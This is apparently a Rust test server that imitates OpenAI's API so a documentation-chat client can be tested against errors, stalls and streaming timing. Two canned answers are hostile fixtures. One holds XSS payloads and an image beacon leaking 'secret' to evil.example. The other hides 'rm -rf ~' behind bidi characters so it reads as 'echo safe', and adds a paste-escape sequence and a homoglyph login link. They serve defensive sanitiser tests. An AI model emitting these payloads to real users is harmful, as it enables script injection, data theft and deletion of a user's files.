//! The upstream test double: a tiny server that speaks OpenAI's exact wire format.
//!
//! Behaviour is chosen by keywords in the LAST user message of a chat request:
//!
//! | keyword | behaviour |
//! |---|---|
//! | (none) | streams "According to the docs … [1]. … [2]." in chunks of a few characters, `--delay-ms` apart |
//! | `NOTCOVERED` | streams "The documentation does not seem to cover this." (the model declining) |
//! | `CITECHECK` | streams two sentences citing [1], the e2e site's install page: one from it, one not (the citation check's marker) |
//! | `HOSTILE` | streams hostile Markdown (script tags, `javascript:` links, foreign images, an unclosed fence, `[99]`) |
//! | `DECEIVE` | streams Markdown that shows one thing and copies or links another (bidi isolates and `ESC[201~` in code, a look-alike host) |
//! | `ENDLESS` | 1 KB chunks without a pause for 60 s (an upstream that ignores `max_tokens`; the client leaves first) |
//! | `SLOW` | 200 chunks, 100 ms apart (Stop / disconnect tests) |
//! | `ERROR500` | HTTP 500 with an OpenAI error body |
//! | `RATE429` | HTTP 429 with `Retry-After: 7` |
//! | `MIDSTREAM_ERROR` | a few chunks, then `data: {"error": {...}}` and the stream ends |
//! | `FLAKY500` / `FLAKY429` | the FIRST request with this exact last message fails (500, or 429 with `Retry-After: 0`), later ones succeed |
//! | `STALLFIRST` | waits 30 s before answering (first-byte timeout tests) |
//! | `STALLMID` | a few chunks, then 30 s of silence, then the rest (idle timeout / keep-alive tests) |
//! | `STALLPING` | like `STALLMID`, but the 30 s carry an SSE comment (`: ping`) every 200 ms: no chunk |
//! | `HOLD` | 30 chunks, 1 s apart (many-open-streams load test) |
//!
//! A system message containing "standalone search query" (the rewrite task) gets a short rewrite:
//! the last user turn with nouns from the earlier turns prepended (one chunk when streaming).
//!
//! `POST /v1/embeddings` returns deterministic unit vectors from a hash of each text (any
//! `dimensions`, default 384; `encoding_format: "base64"` supported). With a model whose name
//! contains `bow`, a text's vector is instead the normalised sum of its lowercased words'
//! hash vectors: texts that share words lie close, so it has clusters like a real model's
//! (benchmarks of vector search structures; still no semantics); an input containing `EMBED500`
//! gets HTTP 500 with an OpenAI error body (an embedding provider failing). `POST /v1/moderations`
//! flags any input containing `FLAGME`.
//!
//! With `stamp` (`--stamp`, for benchmarks), every streamed chunk also carries
//! `"bench_recv_ns"` (wall clock when the request body had been received) and `"bench_sent_ns"`
//! (wall clock when the chunk was handed to the HTTP layer), nanoseconds since the Unix epoch.
//! A load generator on the same machine subtracts them from its own clock readings to measure
//! transport overhead without the double's own pauses and timer jitter. `GET /_requests` lists every request received (path,
//! query, body, whether the client disconnected before the end); `DELETE /_requests` clears it.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use axum::body::{Body, Bytes};
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use base64::Engine;
use serde_json::{json, Value};
use tokio::sync::mpsc;

/// The default answer; cites sources [1] and [2].
pub const DEFAULT_ANSWER: &str =
    "According to the docs, the setting lives in the configuration file [1]. \
You can override it per project, as the reference explains [2].";

/// What the double says for `NOTCOVERED`: the model declining, as docent's prompt asks it to.
pub const NOT_COVERED_ANSWER: &str =
    "The documentation does not seem to cover this. It describes the answer cache, not billing.";
/// The answer streamed for `CITECHECK`: the first sentence is in the e2e site's install page
/// (e2e/widget/site/docs/install.html), the second is not.
pub const CITECHECK_ANSWER: &str = "To install Frobnicator on Linux, download the release archive from the releases page \
and run the install script [1]. The script copies the frob binary into /usr/local/sbin and needs 64 GB of memory [1].";

/// The hostile Markdown streamed for `HOSTILE`.
pub const HOSTILE_ANSWER: &str = "Here is the answer [1].\n\n<img src=x onerror=\"window.__pwned=1\">\n\n\
<script>window.__pwned=1</script>\n\n[click](javascript:window.__pwned=1) and [x](&#106;avascript:window.__pwned=1)\n\n\
![i](https://evil.example/leak?q=secret)\n\nSee also [99].\n\n```js\nwindow.__pwned = 1;\n";

/// The Markdown streamed for `DECEIVE`: code that reads in another order than it copies (bidi
/// isolates), a control sequence that ends a terminal's bracketed paste, and links to a host
/// spelt with a Cyrillic `о` so it reads as `docs.example.com`.
pub const DECEIVE_ANSWER: &str = "Run this [1]:\n\n```sh\nrm -rf ~ \u{2067}# \u{2066}echo safe\u{2069}\u{2069}\n\
echo done\u{1b}[201~\n```\n\nThen sign in at [https://d\u{43e}cs.example.com/login](https://d\u{43e}cs.example.com/login) \
or on [the docs site](https://d\u{43e}cs.example.com/).\n";

/// One request the double received, as listed by `GET /_requests`.
#[derive(Debug, Clone, serde::Serialize)]
pub struct Recorded {
    /// Sequence number, from 0.
    pub id: usize,
    /// Request path, e.g. `/v1/chat/completions`.
    pub path: String,
    /// Raw query string (Azure's `api-version`), empty when none.
    pub query: String,
    /// The JSON body (Null when it was not JSON).
    pub body: Value,
    /// The credential the client sent (`Authorization` or `api-key` header), if any.
    pub auth: Option<String>,
    /// True when the client went away before the streamed answer ended.
    pub disconnected: bool,
    /// True when the whole answer was sent.
    pub completed: bool,
}

/// Options for the double.
#[derive(Debug, Clone, Default)]
pub struct DoubleOptions {
    /// Delay between streamed chunks of the default answer.
    pub delay_ms: u64,
    /// Add `bench_recv_ns`/`bench_sent_ns` wall-clock stamps to every streamed chunk.
    pub stamp: bool,
}

#[derive(Default)]
struct Inner {
    requests: Vec<Recorded>,
    flaky_seen: HashMap<String, u32>,
}

#[derive(Clone)]
struct DoubleState {
    opts: DoubleOptions,
    inner: Arc<Mutex<Inner>>,
    record: bool,
}

impl DoubleState {
    fn record(&self, path: &str, query: &str, body: &Value, headers: &HeaderMap) -> usize {
        if !self.record {
            return usize::MAX;
        }
        let auth = headers
            .get("authorization")
            .or_else(|| headers.get("api-key"))
            .and_then(|v| v.to_str().ok())
            .map(str::to_string);
        let mut inner = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        let id = inner.requests.len();
        // Keep memory bounded under load tests.
        if inner.requests.len() >= 10_000 {
            return usize::MAX;
        }
        inner.requests.push(Recorded {
            id,
            path: path.to_string(),
            query: query.to_string(),
            body: body.clone(),
            auth,
            disconnected: false,
            completed: false,
        });
        id
    }

    fn mark(&self, id: usize, disconnected: bool, completed: bool) {
        if id == usize::MAX {
            return;
        }
        let mut inner = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        if let Some(r) = inner.requests.get_mut(id) {
            r.disconnected |= disconnected;
            r.completed |= completed;
        }
    }
}

/// The double's router. `record = false` turns off `/_requests` bookkeeping (load tests).
pub fn router(opts: DoubleOptions, record: bool) -> Router {
    let state = DoubleState { opts, inner: Arc::default(), record };
    Router::new()
        .route("/v1/chat/completions", post(chat))
        .route("/chat/completions", post(chat))
        .route("/openai/deployments/{deployment}/chat/completions", post(chat))
        .route("/v1/embeddings", post(embeddings))
        .route("/embeddings", post(embeddings))
        .route("/openai/deployments/{deployment}/embeddings", post(embeddings))
        .route("/v1/moderations", post(moderations))
        .route("/moderations", post(moderations))
        .route("/_requests", get(list_requests).delete(clear_requests))
        .route("/healthz", get(|| async { "ok" }))
        .with_state(state)
}

/// Serve the double on `listener` until the process ends.
pub async fn serve(
    listener: tokio::net::TcpListener,
    opts: DoubleOptions,
    record: bool,
) -> anyhow::Result<()> {
    // Like a real API server: small SSE chunks are sent at once (no Nagle + delayed-ACK stalls of
    // up to 40 ms, which would otherwise dominate latency measurements).
    use axum::serve::ListenerExt;
    let listener = listener.tap_io(|tcp| {
        let _ = tcp.set_nodelay(true);
    });
    axum::serve(listener, router(opts, record).into_make_service_with_connect_info::<SocketAddr>())
        .await?;
    Ok(())
}

async fn list_requests(State(st): State<DoubleState>) -> Json<Vec<Recorded>> {
    Json(st.inner.lock().unwrap_or_else(|e| e.into_inner()).requests.clone())
}

async fn clear_requests(State(st): State<DoubleState>) -> StatusCode {
    let mut inner = st.inner.lock().unwrap_or_else(|e| e.into_inner());
    inner.requests.clear();
    inner.flaky_seen.clear();
    StatusCode::NO_CONTENT
}

/// Nanoseconds since the Unix epoch (wall clock; shared by processes on one machine).
pub fn now_ns() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_nanos() as u64).unwrap_or(0)
}

fn now() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)
}

fn openai_error(status: StatusCode, message: &str, kind: &str, code: Option<&str>) -> Response {
    (
        status,
        Json(json!({"error": {"message": message, "type": kind, "param": null, "code": code}})),
    )
        .into_response()
}

/// Text of a message's `content`: a string, or an array of `{type:"text", text}` parts.
fn content_text(content: &Value) -> String {
    match content {
        Value::String(s) => s.clone(),
        Value::Array(parts) => parts
            .iter()
            .filter_map(|p| p.get("text").and_then(Value::as_str))
            .collect::<Vec<_>>()
            .join(""),
        _ => String::new(),
    }
}

/// Rough token estimate (4 bytes per token), good enough for a double's usage numbers.
fn approx_tokens(text: &str) -> u64 {
    (text.len() as u64).div_ceil(4).max(1)
}

/// "the last user turn with history nouns prepended".
fn rewrite(messages: &[(String, String)]) -> String {
    let last = messages
        .iter()
        .rev()
        .find(|(r, _)| r == "user")
        .map(|(_, c)| c.clone())
        .unwrap_or_default();
    let mut nouns: Vec<String> = Vec::new();
    let last_lower = last.to_lowercase();
    let users: Vec<&(String, String)> = messages.iter().filter(|(r, _)| r == "user").collect();
    for (_, text) in users.iter().rev().skip(1) {
        for w in text.split(|c: char| !c.is_alphanumeric() && c != '-' && c != '_') {
            let capital = w.chars().next().map(char::is_uppercase).unwrap_or(false);
            if (capital && w.len() > 1 || w.len() >= 7)
                && !last_lower.contains(&w.to_lowercase())
                && !nouns.iter().any(|n| n.eq_ignore_ascii_case(w))
            {
                nouns.push(w.to_string());
            }
            if nouns.len() >= 4 {
                break;
            }
        }
        if nouns.len() >= 4 {
            break;
        }
    }
    if nouns.is_empty() {
        last
    } else {
        format!("{} {}", nouns.join(" "), last)
    }
}

fn split_chunks(text: &str, size: usize) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    chars.chunks(size.max(1)).map(|c| c.iter().collect()).collect()
}

enum Plan {
    Chunks {
        pieces: Vec<String>,
        delay: Duration,
        stall_after: Option<usize>,
        /// During the stall, send an SSE comment (`: ping`) every 200 ms.
        ping: bool,
        error_after: Option<usize>,
        /// Send the pieces over and over until this much time has passed (or the client left).
        endless: Option<Duration>,
    },
}

struct ChatCtx {
    id: String,
    model: String,
    created: u64,
    include_usage: bool,
    prompt_tokens: u64,
    /// `Some(request received)` when chunks are stamped.
    recv_ns: Option<u64>,
}

impl ChatCtx {
    fn chunk(&self, delta: Value, finish: Option<&str>) -> String {
        let mut v = json!({
            "id": self.id, "object": "chat.completion.chunk", "created": self.created, "model": self.model,
            "system_fingerprint": "fp_double",
            "choices": [{"index": 0, "delta": delta, "logprobs": null, "finish_reason": finish}],
        });
        if self.include_usage {
            v["usage"] = Value::Null;
        }
        self.stamp(&mut v);
        format!("data: {v}\n\n")
    }

    fn usage_chunk(&self, completion_tokens: u64) -> String {
        let mut v = json!({
            "id": self.id, "object": "chat.completion.chunk", "created": self.created, "model": self.model,
            "system_fingerprint": "fp_double", "choices": [],
            "usage": {"prompt_tokens": self.prompt_tokens, "completion_tokens": completion_tokens,
                      "total_tokens": self.prompt_tokens + completion_tokens},
        });
        self.stamp(&mut v);
        format!("data: {v}\n\n")
    }

    fn stamp(&self, v: &mut Value) {
        if let Some(recv) = self.recv_ns {
            v["bench_recv_ns"] = json!(recv);
            v["bench_sent_ns"] = json!(now_ns());
        }
    }
}

async fn chat(
    State(st): State<DoubleState>,
    uri: axum::http::Uri,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let recv_ns = st.opts.stamp.then(now_ns);
    let parsed: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    let rec = st.record(uri.path(), uri.query().unwrap_or(""), &parsed, &headers);
    let Some(msgs) = parsed.get("messages").and_then(Value::as_array) else {
        return openai_error(
            StatusCode::BAD_REQUEST,
            "'messages' is a required property",
            "invalid_request_error",
            None,
        );
    };
    let mut messages = Vec::new();
    for m in msgs {
        let role = m.get("role").and_then(Value::as_str).unwrap_or("");
        if !matches!(role, "system" | "developer" | "user" | "assistant" | "tool") {
            return openai_error(StatusCode::BAD_REQUEST, &format!("Invalid value: '{role}'. Supported values are: 'system', 'assistant', 'user', 'tool', and 'developer'."), "invalid_request_error", Some("invalid_value"));
        }
        messages.push((role.to_string(), content_text(m.get("content").unwrap_or(&Value::Null))));
    }
    let stream = parsed.get("stream").and_then(Value::as_bool).unwrap_or(false);
    let include_usage =
        parsed.pointer("/stream_options/include_usage").and_then(Value::as_bool).unwrap_or(false);
    let model = parsed.get("model").and_then(Value::as_str).unwrap_or("double-chat").to_string();
    let last_user = messages
        .iter()
        .rev()
        .find(|(r, _)| r == "user")
        .map(|(_, c)| c.clone())
        .unwrap_or_default();
    let is_rewrite = messages
        .iter()
        .any(|(r, c)| (r == "system" || r == "developer") && c.contains("standalone search query"));
    let prompt_tokens: u64 = messages.iter().map(|(_, c)| 3 + approx_tokens(c)).sum::<u64>() + 3;
    let ctx = ChatCtx {
        id: format!("chatcmpl-double{}", rec.min(999_999)),
        model,
        created: now(),
        include_usage,
        prompt_tokens,
        recv_ns,
    };

    if !is_rewrite {
        if last_user.contains("ERROR500") {
            st.mark(rec, false, true);
            return openai_error(
                StatusCode::INTERNAL_SERVER_ERROR,
                "The server had an error while processing your request. Sorry about that!",
                "server_error",
                None,
            );
        }
        if last_user.contains("RATE429") {
            st.mark(rec, false, true);
            let mut r = openai_error(
                StatusCode::TOO_MANY_REQUESTS,
                "Rate limit reached for requests. Please try again in 7s.",
                "requests",
                Some("rate_limit_exceeded"),
            );
            r.headers_mut().insert("retry-after", "7".parse().expect("static header"));
            return r;
        }
        if last_user.contains("FLAKY500") || last_user.contains("FLAKY429") {
            let first = {
                let mut inner = st.inner.lock().unwrap_or_else(|e| e.into_inner());
                let n = inner.flaky_seen.entry(last_user.clone()).or_insert(0);
                *n += 1;
                *n == 1
            };
            if first {
                st.mark(rec, false, true);
                if last_user.contains("FLAKY429") {
                    let mut r = openai_error(
                        StatusCode::TOO_MANY_REQUESTS,
                        "Rate limit reached for requests. Please try again in 0s.",
                        "requests",
                        Some("rate_limit_exceeded"),
                    );
                    r.headers_mut().insert("retry-after", "0".parse().expect("static header"));
                    return r;
                }
                return openai_error(
                    StatusCode::INTERNAL_SERVER_ERROR,
                    "The server had an error while processing your request. Sorry about that!",
                    "server_error",
                    None,
                );
            }
        }
        if last_user.contains("STALLFIRST") {
            tokio::time::sleep(Duration::from_secs(30)).await;
        }
    }

    let (text, plan) = if is_rewrite {
        let t = rewrite(&messages);
        (
            t.clone(),
            Plan::Chunks {
                pieces: vec![t],
                delay: Duration::ZERO,
                stall_after: None,
                ping: false,
                error_after: None,
                endless: None,
            },
        )
    } else if let Some(text) = [
        ("NOTCOVERED", NOT_COVERED_ANSWER),
        ("CITECHECK", CITECHECK_ANSWER),
        ("HOSTILE", HOSTILE_ANSWER),
        ("DECEIVE", DECEIVE_ANSWER),
    ]
    .iter()
    .find(|(keyword, _)| last_user.contains(keyword))
    .map(|(_, text)| *text)
    {
        // A canned answer, streamed a few characters at a time.
        (
            text.to_string(),
            Plan::Chunks {
                pieces: split_chunks(text, 6),
                delay: Duration::from_millis(st.opts.delay_ms),
                stall_after: None,
                ping: false,
                error_after: None,
                endless: None,
            },
        )
    } else if last_user.contains("ENDLESS") {
        // An upstream that ignores max_tokens and does not stop: 1 KB pieces without a pause,
        // for a minute (the client leaves first).
        let piece = "This answer goes on and on without end. ".repeat(25);
        (
            piece.clone(),
            Plan::Chunks {
                pieces: vec![piece],
                delay: Duration::ZERO,
                stall_after: None,
                ping: false,
                error_after: None,
                endless: Some(Duration::from_secs(60)),
            },
        )
    } else if last_user.contains("SLOW") {
        let p: Vec<String> = (0..200).map(|i| format!("tick{i} ")).collect();
        (
            p.concat(),
            Plan::Chunks {
                pieces: p,
                delay: Duration::from_millis(100),
                stall_after: None,
                ping: false,
                error_after: None,
                endless: None,
            },
        )
    } else if last_user.contains("HOLD") {
        let p: Vec<String> = (0..30).map(|i| format!("hold{i} ")).collect();
        (
            p.concat(),
            Plan::Chunks {
                pieces: p,
                delay: Duration::from_secs(1),
                stall_after: None,
                ping: false,
                error_after: None,
                endless: None,
            },
        )
    } else if last_user.contains("MIDSTREAM_ERROR") {
        let p = split_chunks(DEFAULT_ANSWER, 4);
        (
            DEFAULT_ANSWER.to_string(),
            Plan::Chunks {
                pieces: p,
                delay: Duration::from_millis(st.opts.delay_ms),
                stall_after: None,
                ping: false,
                error_after: Some(5),
                endless: None,
            },
        )
    } else if last_user.contains("STALLMID") || last_user.contains("STALLPING") {
        let p = split_chunks(DEFAULT_ANSWER, 4);
        (
            DEFAULT_ANSWER.to_string(),
            Plan::Chunks {
                pieces: p,
                delay: Duration::from_millis(st.opts.delay_ms),
                stall_after: Some(3),
                ping: last_user.contains("STALLPING"),
                error_after: None,
                endless: None,
            },
        )
    } else {
        let p = split_chunks(DEFAULT_ANSWER, 4);
        (
            DEFAULT_ANSWER.to_string(),
            Plan::Chunks {
                pieces: p,
                delay: Duration::from_millis(st.opts.delay_ms),
                stall_after: None,
                ping: false,
                error_after: None,
                endless: None,
            },
        )
    };

    if !stream {
        if last_user.contains("MIDSTREAM_ERROR") && !is_rewrite {
            st.mark(rec, false, true);
            return openai_error(
                StatusCode::INTERNAL_SERVER_ERROR,
                "The model failed while generating the answer.",
                "server_error",
                None,
            );
        }
        let completion_tokens = approx_tokens(&text);
        st.mark(rec, false, true);
        return Json(json!({
            "id": ctx.id, "object": "chat.completion", "created": ctx.created, "model": ctx.model,
            "system_fingerprint": "fp_double",
            "choices": [{"index": 0, "message": {"role": "assistant", "content": text, "refusal": null},
                         "logprobs": null, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": ctx.prompt_tokens, "completion_tokens": completion_tokens,
                      "total_tokens": ctx.prompt_tokens + completion_tokens},
        }))
        .into_response();
    }

    let Plan::Chunks { pieces, delay, stall_after, ping, error_after, endless } = plan;
    let until = endless.map(|d| tokio::time::Instant::now() + d);
    let (tx, rx) = mpsc::channel::<Result<Bytes, std::io::Error>>(4);
    let st2 = st.clone();
    tokio::spawn(async move {
        let send = |s: String| {
            let tx = tx.clone();
            async move { tx.send(Ok(Bytes::from(s))).await.is_ok() }
        };
        let mut ok =
            send(ctx.chunk(json!({"role": "assistant", "content": "", "refusal": null}), None))
                .await;
        let mut sent_len = 0usize;
        for (i, piece) in pieces.iter().cycle().enumerate() {
            let more = until.is_some_and(|u| tokio::time::Instant::now() < u);
            if !ok || (i >= pieces.len() && !more) {
                break;
            }
            if i > 0 && !delay.is_zero() {
                tokio::time::sleep(delay).await;
            }
            if stall_after == Some(i) {
                // Silence (or only comments), but notice a disconnect while waiting.
                let until = tokio::time::Instant::now() + Duration::from_secs(30);
                loop {
                    let step =
                        if ping { Duration::from_millis(200) } else { Duration::from_secs(30) };
                    tokio::select! {
                        _ = tokio::time::sleep_until(until.min(tokio::time::Instant::now() + step)) => {}
                        _ = tx.closed() => { ok = false; break; }
                    }
                    if tokio::time::Instant::now() >= until {
                        break;
                    }
                    if ping && !send(": ping\n\n".to_string()).await {
                        ok = false;
                        break;
                    }
                }
                if !ok {
                    break;
                }
            }
            if error_after == Some(i) {
                let e = json!({"error": {"message": "The model produced invalid content. Consider modifying your prompt if you are seeing this error persistently.", "type": "model_error", "param": null, "code": null}});
                let _ = send(format!("data: {e}\n\n")).await;
                st2.mark(rec, false, true);
                return;
            }
            ok = send(ctx.chunk(json!({"content": piece}), None)).await;
            sent_len += piece.len();
        }
        if ok {
            ok = send(ctx.chunk(json!({}), Some("stop"))).await;
        }
        if ok && ctx.include_usage {
            ok = send(ctx.usage_chunk((sent_len as u64).div_ceil(4).max(1))).await;
        }
        if ok {
            ok = send("data: [DONE]\n\n".to_string()).await;
        }
        // The receiver is dropped when the client goes away; wait for the last frame to be taken.
        if ok {
            st2.mark(rec, false, true);
        } else {
            st2.mark(rec, true, false);
        }
    });
    let body = Body::from_stream(futures::stream::unfold(rx, |mut rx| async move {
        rx.recv().await.map(|x| (x, rx))
    }));
    Response::builder()
        .status(StatusCode::OK)
        .header("content-type", "text/event-stream; charset=utf-8")
        .header("cache-control", "no-cache")
        .body(body)
        .unwrap_or_else(|_| StatusCode::INTERNAL_SERVER_ERROR.into_response())
}

/// Deterministic unit vector of `dims` from a hash of `text`.
pub fn embed_text(text: &str, dims: usize) -> Vec<f32> {
    // FNV-1a seed, then splitmix64 stream.
    let mut seed: u64 = 0xcbf2_9ce4_8422_2325;
    for b in text.as_bytes() {
        seed ^= u64::from(*b);
        seed = seed.wrapping_mul(0x0100_0000_01b3);
    }
    let mut v: Vec<f32> = (0..dims)
        .map(|_| {
            seed = seed.wrapping_add(0x9e37_79b9_7f4a_7c15);
            let mut z = seed;
            z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
            z ^= z >> 31;
            (z as f64 / u64::MAX as f64 * 2.0 - 1.0) as f32
        })
        .collect();
    let norm = v.iter().map(|x| x * x).sum::<f32>().sqrt().max(f32::MIN_POSITIVE);
    v.iter_mut().for_each(|x| *x /= norm);
    v
}

/// The normalised sum of the hash vectors ([`embed_text`]) of the text's lowercased words.
pub fn embed_words(text: &str, dims: usize) -> Vec<f32> {
    let mut v = vec![0.0f32; dims];
    let mut words = 0;
    for w in text.split(|c: char| !c.is_alphanumeric()).filter(|w| !w.is_empty()) {
        let e = embed_text(&w.to_lowercase(), dims);
        v.iter_mut().zip(e).for_each(|(a, b)| *a += b);
        words += 1;
    }
    // A text of no words ("???") still gets a direction, as from a real model.
    if words == 0 {
        return embed_text(text, dims);
    }
    let norm = v.iter().map(|x| x * x).sum::<f32>().sqrt().max(f32::MIN_POSITIVE);
    v.iter_mut().for_each(|x| *x /= norm);
    v
}

fn inputs_of(v: &Value) -> Option<Vec<String>> {
    match v {
        Value::String(s) => Some(vec![s.clone()]),
        Value::Array(items) if items.iter().all(Value::is_string) => {
            Some(items.iter().filter_map(Value::as_str).map(str::to_string).collect())
        }
        // Token arrays (or arrays of them): hash their JSON form.
        Value::Array(items) if items.iter().all(Value::is_number) => Some(vec![v.to_string()]),
        Value::Array(items) if items.iter().all(Value::is_array) => {
            Some(items.iter().map(Value::to_string).collect())
        }
        // Moderation's multi-modal form: [{type:"text", text}].
        Value::Array(items) => Some(items.iter().map(content_text_part).collect()),
        _ => None,
    }
}

fn content_text_part(v: &Value) -> String {
    v.get("text").and_then(Value::as_str).unwrap_or_default().to_string()
}

async fn embeddings(
    State(st): State<DoubleState>,
    uri: axum::http::Uri,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let parsed: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    let rec = st.record(uri.path(), uri.query().unwrap_or(""), &parsed, &headers);
    st.mark(rec, false, true);
    let Some(inputs) = parsed.get("input").and_then(inputs_of) else {
        return openai_error(
            StatusCode::BAD_REQUEST,
            "'input' is a required property",
            "invalid_request_error",
            None,
        );
    };
    if inputs.iter().any(|t| t.contains("EMBED500")) {
        return openai_error(
            StatusCode::INTERNAL_SERVER_ERROR,
            "The server had an error while processing your request.",
            "server_error",
            None,
        );
    }
    let dims = parsed.get("dimensions").and_then(Value::as_u64).unwrap_or(384) as usize;
    if dims == 0 || dims > 8192 {
        return openai_error(
            StatusCode::BAD_REQUEST,
            "dimensions must be between 1 and 8192",
            "invalid_request_error",
            None,
        );
    }
    let base64 = parsed.get("encoding_format").and_then(Value::as_str) == Some("base64");
    let model = parsed.get("model").and_then(Value::as_str).unwrap_or("double-embed").to_string();
    let mut total = 0;
    let data: Vec<Value> = inputs
        .iter()
        .enumerate()
        .map(|(i, t)| {
            total += approx_tokens(t);
            let v = if model.contains("bow") { embed_words(t, dims) } else { embed_text(t, dims) };
            let emb = if base64 {
                let bytes: Vec<u8> = v.iter().flat_map(|x| x.to_le_bytes()).collect();
                Value::String(base64::engine::general_purpose::STANDARD.encode(bytes))
            } else {
                json!(v)
            };
            json!({"object": "embedding", "index": i, "embedding": emb})
        })
        .collect();
    Json(json!({"object": "list", "data": data, "model": model, "usage": {"prompt_tokens": total, "total_tokens": total}})).into_response()
}

const MODERATION_CATEGORIES: [&str; 13] = [
    "harassment",
    "harassment/threatening",
    "hate",
    "hate/threatening",
    "illicit",
    "illicit/violent",
    "self-harm",
    "self-harm/intent",
    "self-harm/instructions",
    "sexual",
    "sexual/minors",
    "violence",
    "violence/graphic",
];

async fn moderations(
    State(st): State<DoubleState>,
    uri: axum::http::Uri,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let parsed: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    let rec = st.record(uri.path(), uri.query().unwrap_or(""), &parsed, &headers);
    st.mark(rec, false, true);
    let Some(inputs) = parsed.get("input").and_then(inputs_of) else {
        return openai_error(
            StatusCode::BAD_REQUEST,
            "'input' is a required property",
            "invalid_request_error",
            None,
        );
    };
    let model =
        parsed.get("model").and_then(Value::as_str).unwrap_or("omni-moderation-latest").to_string();
    let results: Vec<Value> = inputs
        .iter()
        .map(|t| {
            let flagged = t.contains("FLAGME");
            let mut cats = serde_json::Map::new();
            let mut scores = serde_json::Map::new();
            let mut applied = serde_json::Map::new();
            for c in MODERATION_CATEGORIES {
                let hit = flagged && (c == "harassment" || c == "violence");
                cats.insert(c.to_string(), json!(hit));
                scores.insert(c.to_string(), json!(if hit { 0.97 } else { 0.0001 }));
                applied.insert(c.to_string(), json!(["text"]));
            }
            json!({"flagged": flagged, "categories": cats, "category_scores": scores, "category_applied_input_types": applied})
        })
        .collect();
    Json(json!({"id": format!("modr-double{}", rec.min(999_999)), "model": model, "results": results})).into_response()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn embeddings_are_deterministic_unit_vectors() {
        let a = embed_text("hello", 384);
        let b = embed_text("hello", 384);
        let c = embed_text("world", 384);
        assert_eq!(a, b);
        assert_ne!(a, c);
        let n: f32 = a.iter().map(|x| x * x).sum();
        assert!((n - 1.0).abs() < 1e-4);
    }

    #[test]
    fn rewrite_prepends_history_nouns_to_the_last_question() {
        let msgs = vec![
            ("system".to_string(), "standalone search query".to_string()),
            ("user".to_string(), "How do I configure Cargo workspaces?".to_string()),
            ("assistant".to_string(), "Like this [1].".to_string()),
            ("user".to_string(), "and the lockfile?".to_string()),
        ];
        let r = rewrite(&msgs);
        assert!(r.ends_with("and the lockfile?"), "{r}");
        assert!(r.contains("Cargo"), "{r}");
    }
}
